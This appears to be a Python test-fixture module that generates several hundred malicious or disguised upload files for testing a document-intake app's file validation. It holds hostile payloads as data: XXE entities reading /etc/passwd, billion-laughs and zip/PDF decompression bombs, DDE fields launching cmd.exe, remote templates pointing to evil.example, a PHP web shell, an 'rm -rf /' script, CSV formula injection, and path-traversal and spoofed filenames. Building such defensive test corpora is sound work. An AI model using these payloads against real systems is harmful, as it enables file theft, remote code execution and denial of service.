"""Files that are not what they say, or that harm whoever opens them; made by code, about five hundred of them."""

# ruff: noqa: E501 - one idea stands on one line

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from random import Random

from tests.files import samples
from workflow_app.demo.evidence import sample_pdf

PDF = sample_pdf("申请材料")
XML = b'<?xml version="1.0" encoding="UTF-8"?>'
HOSTILE_XML = {
    "doctype": XML + b"<!DOCTYPE a><a/>",
    "entity": XML + b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "laughs": XML + b'<!DOCTYPE a [<!ENTITY x "' + b"ha" * 5000 + b'">]><a>' + b"&x;" * 5000 + b"</a>",
    "late": XML + b"<a>" + b" " * 65_000 + b"<!DOCTYPE a []></a>",
    "across": XML + b"<a>" + b" " * (65_536 - len(XML) - 7) + b"<!DOCTYPE a []></a>",
    "utf-16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16"),
    "dde": b"<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>",
    "dde link": b'<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
    "template": b'<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
    "template reversed": b'<Relationship Target="x"/><Relationship TargetMode="External" Target="\\\\\\\\evil\\\\x" Type="http://x/oleObject"/>',
    "frame": b'<Relationship  Type="http://x/frame"  Target = "https://evil.example/" TargetMode="External"/>',
}  # fmt: skip
PARTS = ("word/document.xml", "xl/workbook.xml", "ppt/presentation.xml")
PDF_OBJECTS = (
    b"/JavaScript", b"/JS (app.alert(1))", b"/J#53 (x)", b"/J#61vaScript", b"/Launch", b"/#4Caunch", b"/RichMedia", b"/XFA 1 0 R",
    b"/SubmitForm", b"/ImportData", b"/Rendition", b"/EmbeddedFile", b"/EmbeddedFiles", b"/Embedded#46ile", b"/GoToE", b"/Encrypt 1 0 R",
    b"/FileAttachment",
)  # fmt: skip
DISGUISED = {
    "program": samples.PROGRAM, "elf": b"\x7fELF" + bytes(60), "shell": b"#!/bin/sh\nrm -rf /\n", "class": b"\xca\xfe\xba\xbe" + bytes(60),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "svg late": b"<!-- " + b"x" * 900 + b' --><svg onload="x"/>',
    "page": b"<!DOCTYPE html><script>alert(1)</script>", "page upper": b"\n\n<HTML><SCRIPT>", "page mark": b"\xef\xbb\xbf<script>1</script>",
    "mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n", "rtf": b"{\\rtf1{\\object\\objocx}}", "hta": b"<hta:application/>",
    "xml": XML + b"<a/>", "php": b"<?php system($_GET[0]); ?>", "gif": b"GIF89a/*" + bytes(20), "webp": b"RIFF\x10\0\0\0WEBPVP8 ", "bmp": b"BM" + bytes(60),
    "tiff": b"II*\0" + bytes(20), "ico": b"\0\0\1\0" + bytes(20), "mp4": b"\0\0\0\x18ftypmp42", "rar": b"Rar!\x1a\x07\0", "7z": b"7z\xbc\xaf\x27\x1c",
    "gzip": b"\x1f\x8b\x08" + bytes(20), "xz": b"\xfd7zXZ\0", "iso": bytes(2048), "lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(60), "text": "说明".encode(), "csv": b"=cmd|' /C calc'!A1",
    "eml": b"From: a\r\nSubject: b\r\n\r\n", "bat": b"@echo off\r\n", "vbs": b'CreateObject("WScript.Shell")', "ps": b"%!PS-Adobe-3.0", "empty": b"", "nul": b"\0", "mark": b"\xef\xbb\xbf",
}  # fmt: skip


def ole_with_macro_sheet() -> bytes:
    """An old workbook whose list of sheets names one of macros (Excel 4.0), and no macro project."""
    name = b"Macro1"
    body = struct.pack("<IBBBB", 1000, 1, 1, len(name), 0) + name
    return samples.ole("Workbook") + struct.pack("<HH", 0x85, len(body)) + body + bytes(512)


def pdf_with(objects: bytes) -> bytes:
    """A sound PDF with one more object."""
    return PDF.replace(b"trailer", b"9 0 obj\n<< /A << " + objects + b" >> >>\nendobj\ntrailer", 1)


def pdf_with_packed(objects: bytes) -> bytes:
    """A sound PDF with one more object, kept in a packed stream of objects."""
    packed = zlib.compress(b"9 0 << " + objects + b" >>")
    head = b"8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return PDF.replace(b"trailer", head + packed + b"\nendstream\nendobj\ntrailer", 1)


def packed_flood() -> bytes:
    """A PDF of a few kilobytes whose stream of objects unpacks to a gigabyte."""
    packer, packed = zlib.compressobj(9), b""
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    head = b"8 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
    return PDF.replace(b"trailer", head + packed + b"\nendstream\nendobj\ntrailer", 1)


HEAVY = ("bomb", "bombs in a bomb", "packed flood", "laughs", "flood", "flood of one line")
"""What is made to exhaust whoever opens it."""


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """What the file calls itself, what is wrong with it, its bytes."""
    honest = {
        "pdf": PDF, "docx": samples.docx(), "xlsx": samples.docx(part=PARTS[1]), "pptx": samples.docx(part=PARTS[2]),
        "ofd": samples.ofd(), "doc": samples.ole("WordDocument"), "xls": samples.ole("Workbook"), "png": samples.image("PNG", (60, 60)),
        "jpg": samples.image("JPEG", (60, 60)),
    }  # fmt: skip
    for ending in honest:
        for what, data in DISGUISED.items():
            yield f"材料.{ending}", what, data
        for other, data in honest.items():
            if other != ending:
                yield f"材料.{ending}", f"{other} renamed", data
    for ending in ("pdf", "docx", "xlsx", "pptx", "ofd", "png", "jpg"):
        data = honest[ending]
        for tenth in range(1, 10):
            yield f"材料.{ending}", f"cut at {tenth}0 percent", data[: len(data) * tenth // 10]
        yield f"材料.{ending}", "program before", samples.PROGRAM + data
        yield f"材料.{ending}", "page before", b"<html><script>alert(1)</script>" + data
    for ending in ("pdf", "png", "jpg"):
        yield f"材料.{ending}", "archive after", honest[ending] + samples.zipped({"run.exe": b"x"})
    yield from (("材料.png", f"bit {n}", flipped(honest["png"], n)) for n in range(40))
    for objects in PDF_OBJECTS:
        yield "材料.pdf", f"{objects!r}", pdf_with(objects)
        yield "材料.pdf", f"packed {objects!r}", pdf_with_packed(objects)
    yield "材料.pdf", "packed flood", packed_flood()
    for part, ending in zip(PARTS, ("docx", "xlsx", "pptx"), strict=True):
        for what, xml in HOSTILE_XML.items():
            yield f"材料.{ending}", what, samples.docx({"customXml/item1.xml": xml, "x.rels": b""}, part=part)
            yield f"材料.{ending}", f"{what} in relations", samples.docx({"_rels/more.rels": xml}, part=part)
        for name in (
            "word/vbaProject.bin",
            "xl/macrosheets/sheet1.xml",
            "word/activeX/activeX1.bin",
            "run.exe",
            "a/b.LNK",
            "x.js",
        ):
            yield f"材料.{ending}", name, samples.docx({name: b"x"}, part=part)
        for name in ("../x", "/etc/x", "a/../../x", "C:/x", "C:\\x", "..\\x", "a\x01b"):
            yield f"材料.{ending}", name, samples.docx({name: b"x"}, part=part)
    yield "材料.doc", "macros", samples.ole("WordDocument", "_VBA_PROJECT")
    yield "材料.xls", "macro sheet", ole_with_macro_sheet()
    yield "材料.doc", "encrypted", samples.ole("EncryptedPackage")
    yield "材料.docx", "encrypted", samples.encrypted()
    yield "材料.docx", "link", samples.linked()
    yield "材料.docx", "two names", samples.duplicated()
    yield "材料.docx", "false size", samples.false_size()
    yield "材料.docx", "overlapping", samples.overlapping()
    yield "材料.docx", "bomb", samples.bomb(210)
    yield "材料.docx", "bombs in a bomb", samples.docx(dict.fromkeys(("1.docx", "2.docx", "3.docx"), samples.bomb(80)))
    yield "材料.docx", "unknown compression", samples.docx().replace(b"\x08\0", b"\x63\0")
    yield "材料.png", "flood", samples.flood_png(65_000, 65_000)
    yield "材料.png", "flood of one line", samples.flood_png(2**31 - 1, 1)
    yield "材料.png", "nothing", samples.flood_png(0, 0)
    yield "材料.png", "script after", honest["png"] + b"<script>alert(1)</script>"
    yield "材料.jpg", "flood", samples.flood_jpg()


def flipped(data: bytes, number: int) -> bytes:
    """The file with one bit changed somewhere in its contents."""
    random = Random(number)  # noqa: S311 - the same every time
    changed = bytearray(data)
    changed[random.randrange(40, len(data) - 60)] ^= 1 << random.randrange(8)
    return bytes(changed)


NAMES = {
    "材料\u202efdp.exe.pdf": "材料fdp.exe.pdf", "../../etc/材料.pdf": "材料.pdf", "C:\\Windows\\材料.pdf": "材料.pdf", "a\x00b.pdf": "ab.pdf",
    "CON.pdf": "_CON.pdf", "nul.tar.pdf": "_nul.tar.pdf", "Lpt1.pdf": "_Lpt1.pdf", "console.pdf": "console.pdf", "..pdf..pdf": "pdf.pdf",
    " 材料 .pdf ": "材料.pdf", '<script>alert(1)</script>.pdf': "script_.pdf", "a\r\nSet-Cookie: x.pdf": "aSet-Cookie_ x.pdf", "=cmd|'x'!A1.pdf": "=cmd_'x'!A1.pdf",
    "%2e%2e%2fx.pdf": "%2e%2e%2fx.pdf", "材料.PDF": "材料.PDF", "材料.pdf.": "材料.pdf", "材料.exe\u200b.pdf": "材料.exe.pdf", "\ufeff材料.pdf": "材料.pdf",
}  # fmt: skip
"""Names that mislead, and what they are stored as."""
